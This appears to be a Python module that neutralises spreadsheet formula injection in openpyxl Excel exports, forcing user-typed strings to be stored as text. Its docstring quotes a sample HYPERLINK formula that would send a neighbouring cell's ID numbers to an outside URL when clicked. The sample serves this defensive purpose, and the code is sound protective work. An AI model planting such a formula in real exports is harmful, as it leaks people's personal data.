"""Spreadsheet cells for every Excel export: what a user typed is written as text, never as a formula.

openpyxl turns any string that starts with "=" into a formula cell (and "#N/A" into an error
cell), so an address typed as ``=HYPERLINK("http://…?"&C3,"点我")`` would become a live link that
sends its neighbours' ID numbers away. Every export builds its rows through ``safe_row`` (or
``text_cell`` for one styled cell): strings are written as text, and one that starts the way a
formula does (= + - @, a tab or a carriage return, or their full-width forms) gets a leading
apostrophe, so that it stays text even when the sheet is saved again as CSV and reopened.
Numbers, dates and empty cells keep their type."""

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE, Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def neutralised(text):
    """``text`` as it may stand in a cell: characters Excel cannot hold are dropped, and a text
    that a spreadsheet would read as a formula gets a leading apostrophe."""
    text = ILLEGAL_CHARACTERS_RE.sub("", str(text))
    return "'" + text if text.lstrip(" ").startswith(FORMULA_STARTS) else text


def text_cell(sheet, value, **style):
    """A string cell holding ``value`` as text (never a formula nor an error code); ``style``
    sets attributes such as font, fill or alignment."""
    cell = WriteOnlyCell(sheet, value=None)
    cell.value = "" if value is None else neutralised(value)
    # assigned after the value: openpyxl infers a formula ("=…") or an error ("#N/A") from it
    cell.data_type = "s"
    for name, setting in style.items():
        setattr(cell, name, setting)
    return cell


def safe_cell(sheet, value):
    """One value of a row: a string neutralised; a number, date, None or a ready cell as it is.

    A neutralised string goes as a plain value: openpyxl would read a formula only from a leading
    "=", which neutralised() has covered, and an error only from an error code, which alone needs a
    ``text_cell``. (A cell object costs openpyxl's write-only append a ValueError and the cell's repr:
    a string cell for every text made the 100,000-row roster a fifth slower.)"""
    if isinstance(value, str):
        text = neutralised(value)
        return text_cell(sheet, text) if text in ERROR_CODES else text
    return value


def safe_row(sheet, values):
    """A row for ``sheet.append``, every string in it written as text."""
    return [value if isinstance(value, Cell) else safe_cell(sheet, value) for value in values]
